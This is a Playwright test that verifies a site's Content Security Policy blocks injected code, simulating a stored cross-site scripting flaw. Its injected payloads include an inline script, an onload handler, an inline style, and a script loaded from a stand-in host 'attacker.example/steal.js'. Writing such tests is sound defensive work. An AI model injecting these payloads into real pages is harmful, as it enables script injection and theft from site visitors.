import {test, expect} from '@playwright/test';
import {waitForHydration} from '../support/hydration';
import {watchPolicyViolations, type PolicyViolation} from './support/policyViolations';

// The policy bites: code injected into a served page, as a stored cross-site scripting flaw
// would put it there, does not run, and the browser reports each attempt. The page is the
// built one, changed on its way to the browser; the site's own scripts still run.

const route = '/docs/about-platform';

/** What the injection adds to the page: each piece records that it ran, if it ever does. */
const injected = [
  // An inline script, placed where a page's own content would put it.
  '<script>window.__injected = (window.__injected || []).concat("inline script")</script>',
  // An inline event handler, on an image that loads.
  '<img src="/img/logo.svg" alt="" onload="window.__injected = (window.__injected || []).concat(\'event handler\')">',
  // A script from another site, and a stylesheet in the page.
  '<script src="https://attacker.example/steal.js"></script>',
  '<style>body { display: none; }</style>',
].join('');

test.describe('the Content Security Policy blocks what the site does not ship', () => {
  test(`${route} with injected code: none of it runs, each is reported, the site still works`, async ({
    page,
  }) => {
    const violations: PolicyViolation[] = [];
    await watchPolicyViolations(page, (violation) => violations.push(violation));
    // The browser lists a request the policy blocks, and fails it ("csp") before it leaves.
    const requestsToAttacker: string[] = [];
    page.on('requestfailed', (request) => {
      if (request.url().startsWith('https://attacker.example/')) {
        requestsToAttacker.push(`${request.url()} ${request.failure()?.errorText}`);
      }
    });
    page.on('requestfinished', (request) => {
      if (request.url().startsWith('https://attacker.example/')) {
        requestsToAttacker.push(`${request.url()} finished`);
      }
    });
    await page.route(`**${route}`, async (intercepted) => {
      const response = await intercepted.fetch();
      const html = await response.text();
      expect(html, 'the served page carries its policy').toContain(
        'http-equiv="Content-Security-Policy"',
      );
      expect(html).toContain('<article>');
      await intercepted.fulfill({
        response,
        body: html.replace('<article>', `<article>${injected}`),
      });
    });

    await page.goto(route);
    await waitForHydration(page);
    await expect(page.getByRole('heading', {level: 1})).toBeVisible();

    expect(
      await page.evaluate(() => (window as {__injected?: string[]}).__injected),
    ).toBeUndefined();
    await expect
      .poll(() => requestsToAttacker, {message: 'the request to the other site never leaves'})
      .toEqual(['https://attacker.example/steal.js csp']);
    // Each kind once at least: the browser reports a <style> again when hydration moves it.
    const reported = () =>
      [
        ...new Set(violations.map(({directive, blockedUri}) => `${directive} ${blockedUri}`)),
      ].sort();
    await expect
      .poll(reported)
      .toEqual(
        [
          'script-src-elem inline',
          'script-src-attr inline',
          'script-src-elem https://attacker.example/steal.js',
          'style-src-elem inline',
        ].sort(),
      );
    expect(violations.every((violation) => violation.page === route)).toBe(true);
  });
});
